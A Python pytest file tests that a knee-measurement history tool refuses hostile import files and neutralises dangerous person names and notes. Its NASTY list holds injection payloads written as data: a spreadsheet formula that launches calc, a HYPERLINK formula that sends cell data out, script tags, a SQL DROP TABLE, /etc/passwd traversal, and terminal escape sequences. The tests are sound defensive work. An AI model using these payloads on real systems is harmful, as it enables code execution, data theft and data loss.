"""History files made to harm, and names and notes made to harm whoever reads what is written of them."""

from __future__ import annotations

import base64
import copy
import csv
import io
import json
from collections.abc import Callable
from pathlib import Path
from typing import Any

import pytest
from PIL import Image

from history.csv_export import repetitions_csv, sessions_csv
from history.errors import ImportRefusedError, RefusedError
from history.exchange import json_text
from history.fhir import bundle
from history.file_pictures import _BLOCK_BYTES
from history.merge import import_bytes, import_file
from history.records import Diary
from history.store import Store, open_store
from tests.history.diaries import START, make_trial
from tests.hostile import seeds
from tests.hostile.conftest import Ended, time_limit
from tests.hostile.watch import MEMORY_MB, read_files

Kneewall = Callable[..., Ended]
HEAD = b'{"schema": "kneewall-history/1", "people": ['
HUGE = "1" + "0" * 5000


@pytest.fixture
def store(tmp_path: Path) -> Store:
    with open_store(f"sqlite:///{tmp_path / 'hostile.db'}") as opened:
        yield opened


def _content() -> dict[str, Any]:
    return json.loads(seeds.histories()[0])


def _changed(change: Callable[[dict[str, Any]], object]) -> bytes:
    content = copy.deepcopy(_content())
    change(content)
    return json.dumps(content).encode()


def _trial(content: dict[str, Any]) -> dict[str, Any]:
    return content["people"][0]["sessions"][1]["trials"][0]


def _measurement(**fields: Any) -> bytes:
    return _changed(lambda c: _trial(c)["measurement"].update(fields))


def _rep(**fields: Any) -> bytes:
    return _changed(lambda c: _trial(c)["measurement"]["reps"][0].update(fields))


def _deep(levels: int) -> Any:
    value: Any = 1
    for _ in range(levels):
        value = [value]
    return value


def _still(data: bytes, media_type: str = "image/png") -> bytes:
    return _changed(lambda c: _trial(c).update(
        still={"media_type": media_type, "base64": base64.b64encode(data).decode()}))


def _jpeg_cut() -> bytes:
    file = io.BytesIO()
    Image.new("RGB", (200, 200)).save(file, "JPEG")
    return file.getvalue()[:300]


def _many_trials(count: int) -> bytes:
    """A session of so many trials, each corrected by the next."""
    content = _content()
    session = content["people"][0]["sessions"][1]
    one = {**_trial(content), "still": None, "measurement": {"schema": "kneewall/1"}}
    session["trials"] = [{**one, "id": f"{k:032x}", "replaced_by": f"{k + 1:032x}"} for k in range(count)]
    return json.dumps(content).encode()


def _raw(old: bytes, new: bytes) -> bytes:
    text = seeds.histories()[0]
    assert old in text
    return text.replace(old, new, 1)


BAD: dict[str, Callable[[], bytes]] = {
    "100000-lists-deep": lambda: HEAD + b"[" * 100_000,
    "100000-objects-deep": lambda: HEAD + b'{"a":' * 100_000,
    "900-deep-in-a-measurement": lambda: _measurement(calibration={"method": "none", "x": _deep(900)}),
    "60-deep-in-a-measurement": lambda: _measurement(calibration={"method": "none", "x": _deep(60)}),
    "number-of-5000-digits": lambda: _raw(b'"pain": ', f'"pain": {HUGE}, "x": '.encode()),
    "whole-number-of-400-digits": lambda: _measurement(foot_length_cm=10**400),
    "whole-number-beyond-64-bits": lambda: _measurement(calibration={"method": "none", "x": 2**63}),
    "frame-count-1e308": lambda: _changed(lambda c: _trial(c)["measurement"]["clip"].update(frame_count=1e308)),
    "year-1": lambda: _changed(lambda c: _trial(c).update(recorded_at="0001-01-01T00:00:00+23:59")),
    "year-9999": lambda: _changed(lambda c: c["people"][0]["sessions"][1].update(
        day="9999-12-31", started_at="9999-12-31T23:59:59-23:59")),
    "offset-of-microseconds": lambda: _changed(lambda c: c["people"][0].update(
        created_at="2026-03-01T09:00:00.123456+01:00:30.123456")),
    "half-a-character-in-a-name": lambda: _changed(lambda c: c["people"][0].update(name="a\ud800")),
    "half-a-character-in-a-zone": lambda: _changed(lambda c: c["people"][0]["sessions"][1].update(zone="\udfff")),
    "half-a-character-in-a-clip": lambda: _changed(
        lambda c: _trial(c)["measurement"]["clip"].update(name="\ud83e.mp4")),
    "nul-in-a-version": lambda: _measurement(version="0.1\0"),
    "nul-in-a-field-s-name": lambda: _measurement(calibration={"method": "none", "\0": 1}),
    "zone-of-20000-characters": lambda: _changed(lambda c: c["people"][0]["sessions"][1].update(zone="x" * 20_000)),
    "version-of-a-megabyte": lambda: _measurement(version="x" * 1_000_000),
    "escape-in-a-name": lambda: _changed(lambda c: c["people"][0].update(name="\x1b[2JAnna")),
    "heel-down-as-a-list": lambda: _rep(heel_down=[]),
    "heel-down-as-text": lambda: _rep(heel_down="yes"),
    "valid-as-a-number": lambda: _rep(valid=1),
    "onset-as-text": lambda: _rep(heel_lift_onset_s="soon"),
    "version-as-an-object": lambda: _measurement(version={}),
    "clip-hash-as-a-list": lambda: _changed(lambda c: _trial(c)["measurement"]["clip"].update(sha256=[])),
    "clip-name-as-a-number": lambda: _changed(lambda c: _trial(c)["measurement"]["clip"].update(name=5)),
    "warning-as-a-number": lambda: _measurement(warnings=[{"code": "x", "message": 5}]),
    "method-as-a-list": lambda: _measurement(calibration={"method": ["sheet"]}),
    "scale-of-1e-300": lambda: _measurement(calibration={"method": "sheet", "px_per_cm": 1e-300}),
    "scale-as-text": lambda: _measurement(calibration={"method": "sheet", "px_per_cm": "6"}),
    "still-text": lambda: _still(b"hello"),
    "still-svg": lambda: _still(b"<svg xmlns='http://www.w3.org/2000/svg'/>"),
    "still-begins-like-png": lambda: _still(b"\x89PNG\r\n\x1a\n" + bytes(200)),
    "still-png-60000": lambda: _still(seeds.png_declaring(60_000, 60_000)),
    "still-png-without-lines": lambda: _still(seeds.png_declaring(500, 500)),
    "still-jpeg-cut": lambda: _still(_jpeg_cut(), "image/jpeg"),
    "still-of-another-kind": lambda: _still(seeds.png_declaring(9, 9), "image/jpeg"),
    "still-html": lambda: _changed(lambda c: _trial(c)["still"].update(media_type="text/html")),
    "still-not-base64": lambda: _changed(lambda c: _trial(c)["still"].update(base64="<script>" * 40)),
    "still-as-a-number": lambda: _changed(lambda c: _trial(c)["still"].update(base64=7)),
    "still-that-never-ends": lambda: seeds.histories()[0].split(b'"base64": "')[0] + b'"base64": "' + b"A" * 9_000_000,
    "trials-that-lead-round": lambda: _changed(
        lambda c: _trial(c).update(replaced_by=_trial(c)["id"])),
    "100000-corrections": lambda: _many_trials(100_000),
    "a-million-names-and-one-twice": lambda: HEAD + b"{" + b",".join(
        b'"%d":1' % number for number in range(1_000_000)) + b',"999999":1}]}',
    "20000-people-of-one-name": lambda: HEAD + b",".join(
        b'{"id": "%032x", "name": "A", "created_at": "2026-03-01T09:00:00+01:00", "names": [], "sessions": []}' % k
        for k in range(20_000)) + b"]}",
    "utf-16": lambda: seeds.histories()[0].decode().encode("utf-16"),
    "a-film": lambda: seeds.film("h264.mp4"),
}


@pytest.mark.parametrize("name", BAD)
def test_a_hostile_history_is_refused_whole_and_soon(name: str, store: Store) -> None:
    data = BAD[name]()
    with time_limit(15), pytest.raises(ImportRefusedError) as refusal:
        import_bytes(store, data)
    assert store.people() == []
    assert len(str(refusal.value)) < 500 and "\n" not in str(refusal.value) and "\x1b" not in str(refusal.value)


def test_the_same_file_unharmed_is_taken(store: Store) -> None:
    """The control of the test above."""
    assert import_bytes(store, seeds.histories()[0]).people == 2


LARGE: dict[str, tuple[bytes, int]] = {
    "lists": (b"[],", 200), "objects": (b"{},", 200), "numbers": (b"1.5,", 200), "letters": (b"x", 200),
    "characters-of-four-bytes": ("🦵".encode(), 200), "lists-that-just-fit": (b"[],", 8),
    "letters-that-just-fit": ("🦵".encode(), 60),
}


@pytest.fixture(scope="module")
def swallowed(tmp_path_factory: pytest.TempPathFactory) -> dict[str, dict]:
    """What became of each large file, all read by one process that is watched."""
    folder = tmp_path_factory.mktemp("large")
    paths = []
    for name, (unit, megabytes) in LARGE.items():
        paths.append(folder / name)
        body = unit * (megabytes * 1_000_000 // len(unit))
        paths[-1].write_bytes(HEAD + (b'"' + body + b'"' if b"," not in unit else body + b"1") + b"]}")
    told = dict(zip(LARGE, read_files("import", paths), strict=True))
    for path in paths:
        path.unlink()
    return told


@pytest.mark.parametrize("name", LARGE)
def test_two_hundred_megabytes_need_little_more_memory(name: str, swallowed: dict[str, dict]) -> None:
    """The bytes themselves are in memory twice, as when the browser sends them."""
    told = swallowed[name]
    assert told["kind"] == "refused" and told["what"] == "ImportRefusedError", told
    assert told["peak_mb"] < MEMORY_MB and told["took_s"] < 15, told


def test_pictures_of_any_length_come_through_block_by_block(store: Store, tmp_path: Path) -> None:
    """Pictures whose texts begin and end anywhere in the blocks in which the file is read."""
    def picture(size: int) -> bytes:
        return seeds.png_declaring(1, 1) + bytes(size)

    anna = store.add_person("Anna")
    for number, size in enumerate((0, 1, 7, _BLOCK_BYTES * 3 // 4 - 3000, _BLOCK_BYTES, 2 * _BLOCK_BYTES + 11, 50)):
        store.save_trial(anna, make_trial("left", key=str(number)), when=START.replace(day=1 + number),
                         still_png=picture(size))
    text = json_text(store)
    (tmp_path / "h.json").write_text(text)
    for load in (lambda other: import_file(other, tmp_path / "h.json"),
                 lambda other: import_bytes(other, text.encode()),
                 lambda other: import_bytes(other, json.dumps(json.loads(text), indent=3).encode())):
        with open_store(f"sqlite:///{tmp_path / 'other.db'}") as other:
            load(other)
            assert json_text(other) == text
        (tmp_path / "other.db").unlink()


@pytest.mark.parametrize("shift", range(0, 60, 7))
def test_a_picture_s_name_that_lies_across_two_blocks(shift: int, store: Store, tmp_path: Path) -> None:
    content = _content()
    text = json.dumps(content)
    at = text.index('"base64"')
    # Blanks in the file move the first picture's name to where one block ends and the next begins.
    padded = text[:1] + " " * (_BLOCK_BYTES - at - shift) + text[1:]
    assert import_bytes(store, padded.encode()).trials == 9
    assert json.loads(json_text(store)) == content


NASTY = [
    "=1+1", "+1", "-1", "@SUM(A1)", "\t=1+1", "=cmd|' /C calc'!A0", " =1+1", '=HYPERLINK("http://x/?"&A1,"here")',
    "<script>alert(1)</script>", "<img src=http://127.0.0.1:9/x.png onerror=alert(1)>", "$x_{$", "\\frac{", "$$",
    "[/bold]", "[link=file:///etc/passwd]x[/link]", "{0.__class__}", "%s%n", "'; DROP TABLE person; --",
    "\u202eannA", "../../../etc/passwd", "![x](http://127.0.0.1:9/x.png)", "a,b\"c", "木🦵é", "x" * 100,
    "\N{ZERO WIDTH JOINER}a",
]


@pytest.mark.parametrize("name", NASTY)
def test_a_nasty_name_is_only_text_wherever_it_is_written(name: str, store: Store, tmp_path: Path, kneewall: Kneewall,
                                                         monkeypatch: pytest.MonkeyPatch) -> None:
    clean = " ".join(name.split())
    person = store.add_person(name)
    assert person.name == clean
    trial = make_trial("left")
    nasty = type(trial)(**{**vars(trial), "clip": type(trial.clip)(**{**vars(trial.clip), "name": name})})
    store.save_trial(person, nasty, when=START, diary=Diary(pain=1, note=name))
    for text in (repetitions_csv(store, [person]), sessions_csv(store, [person])):
        for row in csv.reader(io.StringIO(text.decode("utf-8-sig"))):
            for cell in row:
                assert not cell.lstrip(" ").startswith(("=", "@", "\t", "\r", "+")), cell
                assert not cell.startswith("-") or float(cell) < 0
    assert bundle(store, person)["entry"][0]["resource"]["name"] == [{"text": clean}]
    monkeypatch.setenv("COLUMNS", "200")
    url = str(store.engine.url)
    monkeypatch.setattr("history.store.default_url", lambda: url)
    done = kneewall("history", "--person", clean)
    assert done.status == 0, done.err
    assert clean[:30] in done.out.replace("\n", "") or not clean.isascii()
    assert kneewall("person", "list").out.strip() == clean
    assert kneewall("export", "--format", "csv", "-o", tmp_path / "x.csv", "--person", clean).status == 0


@pytest.mark.parametrize("name", ["\x1b[2J", "a\x07", "a\x9b31m", "\0", "a\x7f", "a\ud800"])
def test_a_name_that_commands_a_terminal_is_refused(name: str, store: Store) -> None:
    with pytest.raises(RefusedError):
        store.add_person(name)


def test_a_note_cannot_command_the_terminal(store: Store, kneewall: Kneewall, monkeypatch: pytest.MonkeyPatch) -> None:
    anna = store.add_person("Anna")
    store.save_trial(anna, make_trial("left"), when=START, diary=Diary(note="\x1b]0;mine\x07[red]x[/red]\x9b2J"))
    url = str(store.engine.url)
    monkeypatch.setattr("history.store.default_url", lambda: url)
    monkeypatch.setenv("COLUMNS", "200")
    done = kneewall("history")
    assert done.status == 0 and "[red]x[/red]" in done.out
    assert not {"\x1b", "\x07", "\x9b"} & set(done.out)


def test_an_imported_namesake_of_the_longest_name_can_be_exported_and_imported_again(store: Store,
                                                                                     tmp_path: Path) -> None:
    name = "x" * 99 + "y"
    store.add_person(name)
    with open_store(f"sqlite:///{tmp_path / 'b.db'}") as other:
        other.add_person(name)
        import_bytes(store, json_text(other).encode())
    assert len(store.people()) == 2
    with open_store(f"sqlite:///{tmp_path / 'c.db'}") as third:
        assert import_bytes(third, json_text(store).encode()).people == 2


@pytest.mark.parametrize("name", ["", ".", "..", "/", "no/such/folder/x.csv", "x" * 300 + ".csv"])
@pytest.mark.parametrize("kind", ["json", "csv"])
def test_an_export_to_a_place_that_cannot_be(kind: str, name: str, kneewall: Kneewall, tmp_path: Path,
                                             monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.chdir(tmp_path)
    assert kneewall("export", "--format", kind, "-o", name).refused()
    assert [p.name for p in tmp_path.iterdir() if p.name.startswith(".")] == []
